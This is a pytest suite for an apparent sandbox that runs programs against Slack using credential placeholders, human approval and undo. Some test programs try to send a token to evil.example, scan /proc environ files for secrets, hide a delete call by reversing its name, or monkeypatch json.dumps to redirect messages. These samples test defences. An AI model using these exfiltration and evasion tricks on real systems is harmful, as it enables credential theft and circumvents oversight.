"""Programs for services, from the request to what is left of them: what runs, what is refused, what is taken back."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import grpc
import pytest

from goex.rpc import goex_pb2 as pb
from tests.goex.code.conftest import Scene
from tests.goex.daemon.test_rules import apply
from tests.runtimes.rest.support import TOKEN
from tests.support.daemon import APPROVAL_PASSPHRASE
from tests.support.entries import Client
from tests.support.journey import Journey, decide, problem, undo
from tests.support.person import QUESTION


def outcome(finished: pb.Finished) -> dict[str, Any]:
    made: dict[str, Any] = json.loads(finished.action.outcome_json)
    return made


def test_a_program_uses_its_service_by_a_placeholder(scene: Scene) -> None:
    finished = scene.run(scene.post("deployed"))
    assert finished.action.state == "done", finished
    assert scene.texts == ["deployed"]
    assert outcome(finished)["changes"] == ["slack.chat.postMessage: 1 request"]
    assert [hit.headers["authorization"] for hit in scene.slack.hits] == [f"Bearer {TOKEN}"]
    assert "deployed" in outcome(finished)["stdout"]


def test_one_that_is_cancelled_was_killed(scene: Scene) -> None:
    sleeps = scene.program('print("begun", flush=True)', "import time; time.sleep(60)")
    journey = Journey(scene.daemon, scene.request(sleeps), person=True)
    decide(scene.daemon, journey.asked())
    assert journey.until("output").data == b"begun\n"
    scene.daemon.actions("Cancel", pb.ActionId(id=journey.action_id), socket=scene.daemon.user_socket)
    finished = journey.finished()
    assert (finished.action.state, finished.problem.message) == ("failed", outcome(finished)["summary"])
    assert (outcome(finished)["ended"], outcome(finished)["exit_code"]) == ("killed", None)


@pytest.mark.promise(53)
def test_the_token_is_nowhere_in_the_container(scene: Scene) -> None:
    """All that a program can read of itself and its surroundings; the placeholder, which it was given, is found."""
    look = scene.program(
        "import sys, glob",
        'me = os.environ["GOEX_TOKEN_SLACK"]',
        "seen = bytearray()",
        'own = ["/proc/self/environ", "/proc/self/cmdline", "/proc/self/mountinfo", *glob.glob("/proc/*/environ")]',
        'for path in [*own, *glob.glob("/goex/**", recursive=True), *glob.glob("/proc/*/cmdline")]:',
        "    try:",
        '        seen += open(path, "rb").read()',
        "    except OSError:",
        "        pass",
        "seen += json.dumps(dict(os.environ)).encode()",
        'said = send("POST", "URL/chat.postMessage", {"channel": "#ops", "text": me})',
        f'print(b"{TOKEN[:9]}" + b"{TOKEN[9:]}" in bytes(seen), me.encode() in bytes(seen), said)',
    )
    finished = scene.run(look)
    found, own, *_ = outcome(finished)["stdout"].split()
    assert (found, own) == ("False", "True")


@pytest.mark.promise(51)
def test_a_method_that_wasn_t_found_or_named_is_refused_and_said(scene: Scene) -> None:
    """The verb is put together while the program runs, so reading it doesn't find the call."""
    hidden = scene.program(
        'name = "".join(reversed("eteled.tahc"))',
        'print(send("POST", "URL/chat.postMessage", {"channel": "#ops", "text": "stays"}))',
        'ts = "1700000001.000100"',
        'print(send("POST", "URL/" + name, {"channel": "C0OPS", "ts": ts}))',
        'print(send("POST", "URL/" + name, {"channel": "C0OPS", "ts": ts}))',
    )
    finished = scene.run(hidden)
    assert scene.texts == ["stays"]
    told = outcome(finished)["refused"]
    assert [(one["call"], one["times"]) for one in told] == [("slack.chat.delete", 2)]
    assert "chat.delete" in outcome(finished)["stdout"]  # the program was told, too, what was refused
    assert [hit.path for hit in scene.slack.hits] == ["/api/chat.postMessage"]
    again = Journey(
        scene.daemon,
        pb.ExecuteRequest(code=pb.CodeProgram(again=finished.action.id, methods=["slack.chat.delete"])),
        person=True,
    )
    asked = again.asked()
    assert any("slack.chat.delete" in line and "named for it" in line for line in asked.lines)
    assert any("it is refused unless it is what was named" in line for line in asked.lines), asked.lines
    decide(scene.daemon, asked, approve=False)


@pytest.mark.promise(51)
def test_a_value_that_is_written_out_is_held_to(scene: Scene) -> None:
    """The program was read as posting to #ops; it posts elsewhere by changing what it had read it from."""
    sly = scene.program(
        'fields = {"channel": "#ops", "text": "x"}',
        'send("POST", "URL/chat.postMessage", {"channel": "#ops", "text": "fair"})',
        "import builtins",
        "real = json.dumps",
        'json.dumps = lambda value: real({**value, "channel": "C0OPS"})',
        'print(send("POST", "URL/chat.postMessage", {"channel": "#ops", "text": "sly"}))',
    )
    finished = scene.run(sly)
    assert scene.texts == ["fair"]
    assert len(outcome(finished)["refused"]) == 1


def test_running_it_again_frees_no_value_that_it_was_held_to(scene: Scene) -> None:
    """What is refused for its values isn't offered as a method to be named, and naming it changes nothing."""
    sly = scene.program(
        'fields = {"channel": "#ops", "text": "fair"}',
        "import builtins",
        "real = json.dumps",
        'json.dumps = lambda value: real({**value, "channel": "C0OPS"})',
        'print(send("POST", "URL/chat.postMessage", {"channel": "#ops", "text": "sly"}))',
    )
    finished = scene.run(sly)
    assert scene.texts == []
    (refused,) = outcome(finished)["refused"]
    assert (refused["call"], refused["held"]) == ("slack.chat.postMessage", True)
    assert "--again" not in scene.daemon.goex("show", finished.action.id).stdout
    methods = ["slack.chat.postMessage", "slack.chat.delete"]
    again = Journey(
        scene.daemon,
        pb.ExecuteRequest(code=pb.CodeProgram(again=finished.action.id, methods=methods)),
        person=True,
    )
    asked = again.asked()
    assert any(line.strip() == 'channel: "#ops"' for line in asked.lines), asked.lines
    assert not any("slack.chat.postMessage" in line and "named for it" in line for line in asked.lines)
    assert any("slack.chat.delete" in line and "named for it" in line for line in asked.lines)
    decide(scene.daemon, asked, approve=True)
    assert again.finished().action.id
    assert scene.texts == []


def test_a_host_that_nothing_is_known_of_is_refused(scene: Scene) -> None:
    finished = scene.run(
        scene.program('print(send("GET", "https://evil.example/x?" + os.environ["GOEX_TOKEN_SLACK"], None))')
    )
    assert outcome(finished)["refused"][0]["call"] == ""
    assert "evil.example" in outcome(finished)["refused"][0]["request"]
    assert scene.slack.hits == []


@pytest.mark.promise(53)
def test_the_placeholder_is_worth_nothing_elsewhere_and_is_in_no_journal(scene: Scene) -> None:
    finished = scene.run(scene.program('print(os.environ["GOEX_TOKEN_SLACK"])'))
    assert "goex-slack-work" not in outcome(finished)["stdout"]
    story = scene.daemon.goex("show", finished.action.id, "--json").stdout
    assert "goex-slack-work-" not in story


@pytest.mark.promise(51)
def test_nothing_found_and_nothing_named_runs_and_is_refused_everything(scene: Scene) -> None:
    program = scene.program('where = chr(47).join(["URL", "users.list"])', 'print("ran", send("GET", where, None))')
    journey = Journey(scene.daemon, scene.request(program), person=True)
    asked = journey.asked()
    assert any("every request that it makes is refused" in line for line in asked.lines)
    assert asked.undo_class == "nothing"
    decide(scene.daemon, asked)
    finished = journey.finished()
    assert finished.action.state == "done"
    assert "ran" in outcome(finished)["stdout"]
    assert scene.slack.hits == []


@pytest.mark.promise(57)
def test_undo_takes_back_what_the_gateway_saw_newest_first(scene: Scene) -> None:
    three = scene.program(
        'for text in ["one", "two", "three"]:',
        '    send("POST", "URL/chat.postMessage", {"channel": "#ops", "text": text})',
    )
    finished = scene.run(three)
    assert scene.texts == ["one", "two", "three"]
    assert finished.action.can_undo
    back = Journey(scene.daemon, undo(finished.action.id), person=True).approve()
    assert back.action.state == "done", back
    assert scene.texts == []
    deleted = [hit.body["ts"] for hit in scene.slack.hits if hit.path.endswith("chat.delete")]
    assert deleted == sorted(deleted, reverse=True)
    undone = scene.daemon.actions("Get", pb.ActionId(id=finished.action.id), socket=scene.daemon.user_socket)
    assert (undone.state, undone.can_redo) == ("undone", False)
    redo = Journey(scene.daemon, undo(finished.action.id, "redo"), person=True).finished()
    assert "--again" in redo.problem.next_step


def test_undo_of_what_somebody_changed_since_is_a_conflict(scene: Scene) -> None:
    finished = scene.run(scene.post("gone"))
    scene.slack.messages.clear()
    back = Journey(scene.daemon, undo(finished.action.id), person=True).approve()
    assert back.problem.code == "conflict"


def test_a_request_that_failed_isn_t_taken_back(scene: Scene) -> None:
    """Slack says with status 200 that it failed: nothing was posted, so there is nothing to take back."""
    finished = scene.run(scene.post("lost", channel="#nowhere"))
    assert outcome(finished)["changes"] == ["slack.chat.postMessage: 1 request, 1 not answered well"]
    back = Journey(scene.daemon, undo(finished.action.id), person=True).finished()
    assert "nothing to take back" in back.problem.message


def test_after_a_commit_there_is_no_undo(scene: Scene) -> None:
    finished = scene.run(scene.post("kept"))
    Journey(scene.daemon, undo(finished.action.id, "commit"), person=True).approve()
    assert scene.daemon.person_action(finished.action.id) == "committed"
    with pytest.raises((grpc.RpcError, AssertionError)):
        Journey(scene.daemon, undo(finished.action.id), person=True).approve()
    assert scene.texts == ["kept"]


@pytest.mark.promise(13)
@pytest.mark.parametrize(
    "rest",
    [
        ' in Service::"slack");',
        ' == Method::"slack.chat.postMessage") when { context.arguments.channel == "#ops" };',
    ],
)
def test_a_commit_is_held_to_rules_about_what_the_program_called(scene: Scene, rest: str) -> None:
    finished = scene.run(scene.post("kept"))
    apply(scene.daemon, f'@id("no-keeping") forbid (principal, action == Action::"commit", resource{rest}')
    try:
        refused = Client(scene.daemon).revert(finished.action.id, "commit").ended()
    finally:
        apply(scene.daemon, "")
    assert refused.problem.code == "denied" and "no-keeping" in refused.problem.message
    assert scene.daemon.person_action(finished.action.id) == "done"


def test_an_agent_proposes_and_the_person_decides(scene: Scene) -> None:
    finished = scene.run(scene.post("by an agent"), person=False)
    assert finished.action.state == "done"
    assert finished.action.agent == "scout"
    assert scene.texts == ["by an agent"]


@pytest.mark.promise(56)
def test_an_agent_can_t_have_another_s_program_run_again(scene: Scene) -> None:
    finished = scene.run(scene.post("mine"))
    request = pb.ExecuteRequest(code=pb.CodeProgram(again=finished.action.id))
    with pytest.raises(grpc.RpcError) as refused:
        Journey(scene.daemon, request, token=scene.agent).until("asking")
    assert "There is no action" in problem(refused.value).message


def test_once_is_for_this_program_a_single_time(scene: Scene) -> None:
    program = scene.post("once")
    scene.run(program, person=False)
    journey = Journey(scene.daemon, scene.request(program), token=scene.agent)
    decide(scene.daemon, journey.asked(), approve=False)
    assert scene.texts == ["once"]


@pytest.mark.promise(56)
def test_a_grant_for_this_very_program_runs_it_again_and_no_other(scene: Scene) -> None:
    program = scene.post("again and again")
    scene.run(program, person=False, width="arguments")
    second = Journey(scene.daemon, scene.request(program), token=scene.agent).finished()
    assert second.action.state == "done"
    assert scene.texts == ["again and again"] * 2
    other = Journey(scene.daemon, scene.request(program + "\n"), token=scene.agent)
    decide(scene.daemon, other.asked(), approve=False)
    _revoke_all(scene)


def test_a_session_grant_is_for_programs_of_that_kind(scene: Scene) -> None:
    scene.run(scene.post("first"), person=False, width="session")
    second = Journey(scene.daemon, scene.request(scene.post("second")), token=scene.agent).finished()
    assert second.action.state == "done"
    assert scene.texts == ["first", "second"]
    other = Journey(
        scene.daemon, scene.request(scene.program("print(1)"), "slack.conversations.create"), token=scene.agent
    )
    decide(scene.daemon, other.asked(), approve=False)
    _revoke_all(scene)


@pytest.mark.promise(56)
def test_a_permanent_grant_for_a_call_doesn_t_let_a_program_make_it(scene: Scene) -> None:
    call = pb.Call(service="slack", method="chat.postMessage", arguments_json='{"channel": "#ops", "text": "a"}')
    Journey(scene.daemon, pb.ExecuteRequest(calls=pb.Calls(calls=[call])), token=scene.agent).approve("permanent")
    journey = Journey(scene.daemon, scene.request(scene.post("b")), token=scene.agent)
    asked = journey.asked()
    assert [need.service for need in asked.needs if not need.granted] == ["code"]
    decide(scene.daemon, asked, approve=False)
    _revoke_all(scene)


def test_the_widths_say_what_each_is_for(scene: Scene) -> None:
    journey = Journey(scene.daemon, scene.request(scene.post("words")), token=scene.agent)
    asked = journey.asked()
    words = {width.name: " ".join(width.words) for width in asked.choices}
    assert "this very program" in words["arguments"]
    assert "any program" in words["session"]
    decide(scene.daemon, asked, approve=False)


def test_a_program_that_fails_is_said_with_its_code_and_output(scene: Scene) -> None:
    finished = scene.run("import sys\nprint('out')\nprint('err', file=sys.stderr)\nsys.exit(3)\n")
    assert finished.action.state == "failed"
    found = outcome(finished)
    assert (found["exit_code"], found["stdout"], found["stderr"], found["touched"]) == (3, "out\n", "err\n", False)


def test_the_command_line(scene: Scene, tmp_path: Path) -> None:
    """Asked once with a terminal's answer, run, shown, and read again as JSON."""
    program = tmp_path / "report.py"
    program.write_text(scene.post("from the command line"))
    with scene.daemon.terminal("exec", "--code", str(program), "--service", "slack", "--profile", "base") as terminal:
        terminal.expect(QUESTION)
        terminal.type("once")
        terminal.expect("Approval passphrase: ")
        terminal.type(APPROVAL_PASSPHRASE)
        assert terminal.wait() == 0
    assert scene.texts == ["from the command line"]
    told = scene.daemon.goex("show", "--json", "last")
    document = json.loads(told.stdout)
    assert document["action"]["kind"] == "code"
    assert [each["call"] for each in document["requests"]] == ["slack.chat.postMessage"]
    listed = json.loads(scene.daemon.goex("log", "--kind", "code", "--limit", "1", "--json").stdout)
    assert listed["actions"][0]["what"].startswith("python for slack: import json")


@pytest.mark.parametrize(
    ("code", "said"),
    [
        (pb.CodeProgram(language="python", program="", services=["slack"]), "empty"),
        (pb.CodeProgram(language="perl", program="1", services=["slack"]), "perl"),
        (pb.CodeProgram(language="python", program="1", services=["nowhere"]), "nowhere"),
        (pb.CodeProgram(language="python", program="1", services=["slack/none"]), "none"),
        (pb.CodeProgram(language="python", program="1", methods=["slack.chat.explode"]), "explode"),
        (pb.CodeProgram(language="python", program="1", profile="../base"), "profile"),
        (pb.CodeProgram(language="python", program="1", profile="nowhere"), "nowhere"),
        (pb.CodeProgram(language="python", program="1", services=["slack"] * 99), "16 services"),
        (pb.CodeProgram(again="a-000000000000"), "a-000000000000"),
        (pb.CodeProgram(again="a-000000000000", program="1"), "as it was"),
    ],
    ids=lambda value: value if isinstance(value, str) else "code",
)
def test_bad_requests_are_refused_with_their_reason(scene: Scene, code: pb.CodeProgram, said: str) -> None:
    try:
        finished = Journey(scene.daemon, pb.ExecuteRequest(code=code), person=True).finished()
        found = finished.problem
    except grpc.RpcError as error:
        found = problem(error)
    assert said in found.message
    assert found.next_step


def test_a_dry_run_sends_nothing_and_tells_what_was_tried(scene: Scene) -> None:
    request = pb.DryRunRequest(request=scene.request(scene.post("never")))
    reply = next(event.done for event in scene.daemon.person("DryRun", request) if event.HasField("done"))
    assert any("chat.postMessage" in line.text for line in reply.lines if line.kind == "change")
    assert "each was answered with a refusal" in reply.lines[0].text
    assert scene.slack.hits == []


def _revoke_all(scene: Scene) -> None:
    for grant in scene.daemon.person("Grants", pb.GrantsRequest()).grants:
        scene.daemon.person("Revoke", pb.RevokeRequest(grant_ids=[grant.id]))


def test_a_library_of_the_service_s_own_works_with_the_placeholder(scene: Scene, code_image: str) -> None:
    """slack_sdk, as anybody would write it, in the image `code`; what it sends is what was read in the program."""
    program = (
        "import os\n"
        "from slack_sdk import WebClient\n"
        f'client = WebClient(token=os.environ["SLACK_BOT_TOKEN"], base_url="{scene.slack.url}/api/")\n'
        'posted = client.chat_postMessage(channel="#ops", text="by the library")\n'
        'print(posted["ts"], client.users_list()["members"])\n'
    )
    finished = scene.run(program, profile="code")
    assert finished.action.state == "done", finished
    assert scene.texts == ["by the library"]
    assert outcome(finished)["changes"] == ["slack.chat.postMessage: 1 request", "slack.users.list: 1 request"]
    Journey(scene.daemon, undo(finished.action.id), person=True).approve()
    assert scene.texts == []


def test_a_shell_program_uses_curl(scene: Scene, code_image: str) -> None:
    program = (
        f"curl -sS -X POST '{scene.slack.url}/api/chat.postMessage'"
        ' -H "Authorization: Bearer $SLACK_BOT_TOKEN" -H "Content-Type: application/json"'
        """ -d '{"channel": "#ops", "text": "by curl"}'\n"""
    )
    finished = scene.run(program, language="shell", profile="code")
    assert finished.action.state == "done", finished
    assert scene.texts == ["by curl"]
    assert outcome(finished)["changes"] == ["slack.chat.postMessage: 1 request"]


def test_two_accounts_are_told_apart_by_their_placeholders(scene: Scene) -> None:
    """One host, two accounts: which credential a request gets is what its placeholder says."""
    scene.daemon.person(
        "VaultPut",
        pb.VaultPutRequest(
            service="slack",
            account="home",
            base_url=f"{scene.slack.url}/api",
            private=True,
            ca_pem=scene.slack.ca_pem,
            secret=b"xoxb-the-other-one",
            passphrase=APPROVAL_PASSPHRASE,
        ),
    )
    try:
        program = scene.program(
            'for name in ("WORK", "HOME"):',
            '    os.environ["GOEX_TOKEN_SLACK"] = os.environ["GOEX_TOKEN_SLACK_" + name]',
            '    send("POST", "URL/chat.postMessage", {"channel": "#ops", "text": "from one"})',
        )
        code = pb.CodeProgram(
            language="python", program=program, services=["slack/work", "slack/home"], profile="base"
        )  # fmt: skip
        finished = Journey(scene.daemon, pb.ExecuteRequest(code=code), person=True).approve()
        assert finished.action.state == "done", finished
        used = [hit.headers["authorization"] for hit in scene.slack.hits]
        assert used == [f"Bearer {TOKEN}", "Bearer xoxb-the-other-one"]
    finally:
        scene.daemon.person(
            "VaultRemove", pb.VaultRemoveRequest(service="slack", account="home", passphrase=APPROVAL_PASSPHRASE)
        )


def test_sealing_the_vault_ends_a_program(scene: Scene) -> None:
    """Its credential goes with the keys, and what it did so far stays on record."""
    program = scene.program(
        'send("POST", "URL/chat.postMessage", {"channel": "#ops", "text": "early"})', "import time", "time.sleep(50)"
    )
    journey = Journey(scene.daemon, scene.request(program), person=True)
    decide(scene.daemon, journey.asked())
    end = time.monotonic() + 300
    while not scene.rows(journey.action_id, "answer"):
        assert time.monotonic() < end, "it never came so far"
    scene.daemon.person("VaultSeal", pb.VaultSealRequest())
    scene.daemon.unlock()
    assert scene.daemon.person_action(journey.action_id) in ("partial", "unknown")


def test_the_exit_status_and_the_json_of_the_command(scene: Scene, tmp_path: Path) -> None:
    """A program is asked for anew each time it differs; one that was granted tells how it ended by its status."""
    program = tmp_path / "fails.py"
    program.write_text("import sys\nsys.exit(7)\n")
    command = ("exec", "--json", "--code", str(program), "--profile", "base")
    journey = Journey(
        scene.daemon,
        pb.ExecuteRequest(code=pb.CodeProgram(language="python", program=program.read_text(), profile="base")),
        person=True,
    )
    journey.approve("arguments")
    ran = scene.daemon.goex(*command)
    last = json.loads(ran.stdout.splitlines()[-1])
    assert last["finished"]["action"]["outcome"]["exit_code"] == 7
    assert last["finished"]["problem"]["code"] == "failed"
    assert ran.returncode == last["finished"]["problem"]["exit_status"] == 1
    _revoke_all(scene)
